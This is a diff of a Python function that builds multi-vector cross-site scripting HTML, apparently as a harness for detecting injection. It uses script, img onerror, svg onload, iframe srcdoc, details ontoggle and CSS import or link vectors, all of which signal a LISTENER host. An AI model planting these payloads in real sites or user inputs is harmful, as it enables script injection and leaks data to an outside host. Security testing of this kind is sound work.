@@ -90,7 +90,7 @@ def harm(what: str) -> str:
     """HTML that tells the listener in many ways, if any script in it runs."""
     script = tells(what)
     return (
-        f"<script>{script}</script><img src=x onerror=\"{script}\"><svg onload=\"{script}\"></svg>"
+        f'<script>{script}</script><img src=x onerror="{script}"><svg onload="{script}"></svg>'
         f"<iframe srcdoc='<script>{script.replace(chr(39), '&quot;')}</script>'></iframe>"
         f'<details open ontoggle="{script}">x</details><object data="{LISTENER}/{what}"></object>'
         f"<style>@import '{LISTENER}/{what}';</style><link rel=stylesheet href={LISTENER}/{what}>"
